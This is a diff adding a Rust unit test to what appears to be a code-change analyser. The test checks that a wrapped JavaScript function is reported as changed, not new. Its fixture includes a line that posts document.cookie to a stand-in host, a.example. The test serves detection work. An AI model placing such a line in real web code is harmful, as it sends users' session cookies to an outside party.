@@ -131,6 +131,16 @@ fn a_function_that_did_one_thing_before_is_said_to_do_the_other_newly() {
 }
 
 #[test]
+fn the_function_that_a_library_is_wrapped_in_is_changed_and_not_new() {
+    let of = |more: &str| format!("(function () {{ show(1); {more} }})(); (() => {{ other(2) }})();");
+    let new = of("fetch('https://a.example/', { body: document.cookie });");
+    let findings = compare(Some(of("").as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
+    assert_eq!(findings.function_counts.added, 0);
+    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
+    assert!(said.text().starts_with("one changed function without a name, at lines 1–"), "{}", said.text());
+}
+
+#[test]
 fn code_outside_functions_is_said_too_and_one_thing_alone_is_not() {
     let old = "show(1);";
     let said = |new: &str| {
